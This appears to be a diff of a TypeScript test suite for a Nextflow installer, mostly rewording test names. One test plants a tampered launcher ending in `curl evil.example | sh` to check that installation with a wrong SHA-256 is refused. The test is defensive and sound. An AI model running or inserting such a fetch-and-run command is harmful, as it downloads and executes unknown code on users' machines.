@@ -77,7 +77,7 @@ function jars(...names: string[]): string {
   return folder;
 }
 
-describe('a version of Nextflow', () => {
+describe('a Nextflow version to install', () => {
   it('is installed by its official launcher, which runs with the program of that version', async () => {
     const { launcher, sha256 } = await install();
     expect(launcher).toBe(join(folderOf('25.10.4'), 'nextflow'));
@@ -92,13 +92,13 @@ describe('a version of Nextflow', () => {
     expect(execFileSync(launcher, ['-v'], { encoding: 'utf8' })).toBe('nextflow version 25.10.4\n');
   });
 
-  it('is refused where its launcher is not the one that was published', async () => {
+  it('is refused if its launcher differs from the published one', async () => {
     published[`${RELEASE}/nextflow`] = `${LAUNCHER}curl evil.example | sh\n`;
     await expect(install()).rejects.toThrow(/has the SHA-256 .*, and .* is published: nothing was installed/);
     expect(existsSync(folderOf('25.10.4'))).toBe(false);
   });
 
-  it('is refused where it has not the digest that was asked for, and taken where it has', async () => {
+  it('is refused with another digest than the requested one, and accepted with that one', async () => {
     await expect(install({ sha256: 'ab' })).rejects.toThrow(/not ab: nothing was installed/);
     expect(await listNextflows(machine)).toEqual([]);
     const { sha256 } = await install();
@@ -106,7 +106,7 @@ describe('a version of Nextflow', () => {
     expect(await install({ sha256 })).toMatchObject({ sha256 });
   });
 
-  it('comes from a folder of jars, and shows later that one of them has changed', async () => {
+  it('comes from a folder of jars, and reports later that one of them has changed', async () => {
     const from = jars('nextflow-25.10.4.jar', 'groovy-4.0.28.jar');
     const { launcher, sha256 } = await install({ from });
     expect(execFileSync(launcher, ['-v'], { encoding: 'utf8', env: machine.env })).toBe('nextflow version 25.10.4\n');
@@ -116,7 +116,7 @@ describe('a version of Nextflow', () => {
     expect(await listNextflows(machine)).toMatchObject([{ sha256, isUnchanged: true }]);
   });
 
-  it('is left as it is where it is there, which is said, and the folder of jars has to have it', async () => {
+  it('is left unchanged with a message if it exists, and the folder of jars has to contain it', async () => {
     const said: string[] = [];
     const say = (line: string) => said.push(line);
     const from = jars('nextflow-25.10.4.jar');
@@ -132,7 +132,7 @@ describe('a version of Nextflow', () => {
     await expect(install({ from: jars('nextflow-24.10.0.jar') })).rejects.toThrow('has no nextflow-25.10.4.jar');
   });
 
-  it('comes from its one jar too', async () => {
+  it('also comes from its single jar', async () => {
     const { launcher } = await install({ from: jars('nextflow-25.10.4-one.jar') });
     expect(execFileSync(launcher, ['-v'], { encoding: 'utf8', env: machine.env })).toBe('nextflow version 25.10.4\n');
   });
@@ -149,13 +149,13 @@ describe('a version of Nextflow', () => {
     expect(existsSync(folderOf('25.10.4'))).toBe(false);
   });
 
-  it('is not left behind where it does not run', async () => {
+  it('is not left behind if it does not run', async () => {
     java('echo no such class; exit 1');
     await expect(install({ from: jars('nextflow-25.10.4.jar') })).rejects.toThrow('no such class');
     expect(existsSync(folderOf('25.10.4'))).toBe(false);
   });
 
-  it('comes from Maven where its releases cannot be reached, which is said', async () => {
+  it('comes from Maven if its releases cannot be reached, with a message', async () => {
     published = {};
     const jar = 'echo jar >"${each#*=}/nextflow-25.10.4.jar"';
     const script = `for each; do case "$each" in -DoutputDirectory=*) /bin/mkdir -p "\${each#*=}"; ${jar} ;; esac; done`;
@@ -169,7 +169,7 @@ describe('a version of Nextflow', () => {
     ]);
   });
 
-  it('is named where it cannot be reached', async () => {
+  it('is named if it cannot be reached', async () => {
     published = {};
     await expect(install()).rejects.toThrow(/\/v25\.10\.4\/nextflow answered 404/);
     await expect(install({ version: 'latest' })).rejects.toThrow('latest is not a version of Nextflow');
